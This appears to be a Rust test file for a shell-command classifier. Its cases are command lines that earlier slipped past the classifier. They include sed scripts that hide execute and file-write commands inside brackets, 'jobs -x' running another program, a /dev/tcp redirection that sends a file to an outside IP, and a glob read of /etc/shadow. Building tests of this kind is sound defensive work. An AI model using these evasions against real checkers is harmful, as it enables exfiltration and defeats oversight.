//! Command lines with which a review got around this reading. Each stays here.

use super::check;

#[test]
fn sed_scripts_whose_brackets_hide_where_they_end() {
    check(&[
        ("sed 's,[],],;s,e;#,p,' x", "sed s,[],],;s,e;#,p, x +code"),
        (
            "sed 's,[],],p;s,w /tmp/w,y,' x",
            "sed [s,[],],p;s,w /tmp/w,y,] x +code",
        ),
        (
            "sed 's,[^],],p;s,w /tmp/w,y,' x",
            "sed [s,[^],],p;s,w /tmp/w,y,] x +code",
        ),
        (
            "sed 's,[[:x,],],p;s,w f,y,' x",
            "sed [s,[[:x,],],p;s,w f,y,] x +code",
        ),
        ("sed 's,[,a,w x,' x", "sed [s,[,a,w x,] x +code"),
        ("sed 's/[/]/x/' x", "sed s/[/]/x/ x +code"),
        ("sed 's/[\\]/x/w y/' x", "sed [s/[\\]/x/w y/] x +code"),
        (
            "sed 's/[0-9]/x/;s/[^a-z ]//g' x",
            "sed [s/[0-9]/x/;s/[^a-z ]//g] x +reads",
        ),
        ("sed -n '/[0-9]/p' x", "sed -n /[0-9]/p x +reads"),
    ]);
}

#[test]
fn a_builtin_that_runs_a_command() {
    check(&[
        ("jobs -x touch /tmp/p", "jobs -x touch /tmp/p !runs-others"),
        (
            "jobs -lx touch /tmp/p",
            "jobs -lx touch /tmp/p !runs-others",
        ),
        (
            "jobs $X touch /tmp/p",
            "jobs [$X]? touch /tmp/p !runs-others",
        ),
        (
            "builtin jobs -x touch /tmp/p",
            "builtin>jobs -x touch /tmp/p !runs-others",
        ),
        ("jobs -l", "jobs -l +reads"),
    ]);
}

#[test]
fn redirections_to_files_that_are_not_known() {
    check(&[
        (
            "X=/dev/tcp/1.2.3.4/443; { cat /srv/x >&3; } 3< $X",
            "cat /srv/x ; read $x !dynamic-file",
        ),
        ("cat < /etc/shad?w", "cat ; read /etc/shad?w !dynamic-file"),
        ("cat < \"$X\"", "cat ; read $x !dynamic-file"),
        ("echo x &> $X", "echo x ; write $x !dynamic-file"),
        ("cat < <(ls)", "ls ; cat ; read <(ls) +reads"),
    ]);
}

#[test]
fn more_programs_that_run_others() {
    check(&[
        ("run0 id", "run0 id !runs-others"),
        ("ctr run x y", "ctr run x y !runs-others"),
        ("sudo-rs -u bob id", "sudo-rs>(bob)id +reads"),
        ("sudo.ws -i", "sudo.ws>(root)sudo.ws -i +stdin:sudo.ws"),
    ]);
}
